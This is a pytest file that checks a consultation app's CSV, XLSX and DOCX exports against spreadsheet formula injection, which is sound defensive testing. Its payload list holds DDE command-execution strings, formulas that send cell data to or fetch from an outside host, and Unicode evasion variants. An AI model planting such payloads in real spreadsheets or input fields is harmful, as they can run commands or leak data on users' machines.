"""Nothing that anybody can type becomes a formula: each payload is sent as a comment, exported, and the export opened again."""

from __future__ import annotations

import io
import unicodedata

import pytest
from openpyxl import load_workbook

from consult.exports.tables.csv_file import comments_csv, dispositions_csv
from consult.exports.tables.docx_file import summary_docx
from consult.exports.tables.formula_injection import neutralised
from consult.exports.tables.register import Register, staff_register
from consult.exports.tables.xlsx_file import register_xlsx
from tests.driving import Driver
from tests.exports.reading import csv_rows, say, tables

pytestmark = pytest.mark.anyio

STARTS = "=+-@＝＋－＠\t\r\n"
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"点这里")',
    '=IMPORTXML("http://example.org","//a")',
    '=WEBSERVICE("http://example.org")',
    "+1+1",
    "+86 138 0013 8000",
    "-1+1",
    "- 建议删去",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\t=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\xa0=1+1",
    '"=1+1',
    "甲,=1+1",
    "甲\n=1+1",
    '甲"\n=1+1,"=2+2',
    ";=1+1",
    "'=1+1",
    "%0A=1+1",
    "=1+1;乙",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"a")',
]


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet program could take the cell for a formula."""
    visible = "".join(char for char in cell if unicodedata.category(char) != "Cf").lstrip()
    return cell[:1] in tuple(STARTS) or visible[:1] in tuple(STARTS.strip())


async def register_of(driver: Driver) -> Register:
    consultation_id = await driver.opened()
    for payload in PAYLOADS:
        name = payload.strip().replace("\n", " ").replace("\t", " ").replace("\ufeff", "").replace("\u200b", "")[:50] or "甲"
        respondent = {"kind": "individual", "name": name, "organisation": name}
        response = await driver.comment(
            consultation_id, payload, respondent=respondent, proposed_wording=payload, articles=["a1"]
        )
        assert response.status_code == 201, response.text
    waiting = [item["comment"]["comment_id"] for item in await driver.waiting(consultation_id)]
    root = f"/consultations/{consultation_id}/points"
    point = await driver.done("drafter", root, summary="=1+1 建议", articles=["a2"], comment_ids=waiting)
    answer = {"kind": "not_adopted", "reason_kind": "law", "reason": "@SUM(1+1) 兼顾居民休息。", "citation": "=2+2"}
    await driver.done("drafter", f"/points/{point['id']}/disposition", disposition=answer)
    await driver.settle()
    person = await driver.runtime.staff.person("drafter")
    return await staff_register(driver.runtime, person.actor, consultation_id)


async def test_no_cell_of_a_csv_file_can_be_taken_for_a_formula(driver: Driver) -> None:
    register = await register_of(driver)
    for content in (comments_csv(register, say), dispositions_csv(register, say)):
        rows = csv_rows(content)
        assert len({len(row) for row in rows}) == 1, "a payload broke out of its cell"
        assert not [cell for row in rows for cell in row if dangerous(cell)]
    texts = [row[9].removeprefix("'") for row in csv_rows(comments_csv(register, say))[1:]]
    assert texts == [payload.removeprefix("'") for payload in PAYLOADS]


async def test_every_word_of_a_workbook_is_stored_as_a_word(driver: Driver) -> None:
    register = await register_of(driver)
    content = register_xlsx(register, say)
    cells = [cell for sheet in load_workbook(io.BytesIO(content)).worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    assert not [cell for cell in cells if cell.data_type == "f"]
    texts = [row[9].value for row in load_workbook(io.BytesIO(content))["意见"].iter_rows(min_row=2)]
    assert texts == PAYLOADS
    quoted = {cell.value for cell in cells if cell.quotePrefix}
    assert {"=1+1", "＝1+1", "  =1+1", "@SUM(1+1)*cmd|' /C calc'!A0"} <= quoted


async def test_the_summary_table_keeps_the_words_as_they_are(driver: Driver) -> None:
    register = await register_of(driver)
    rows = tables(summary_docx(register, say))[2][1:]
    assert [row[2].split("\n建议条文：")[0].removeprefix("（第一条）") for row in rows] == PAYLOADS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_neutral_word_is_harmless_and_is_the_same_word(payload: str) -> None:
    assert not dangerous(neutralised(payload))
    assert neutralised(payload).endswith(payload)


@pytest.mark.parametrize("text", ["", "建议", "第二条=好", "2026-03-05", "1+1", "a@example.org"])
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert neutralised(text) == text
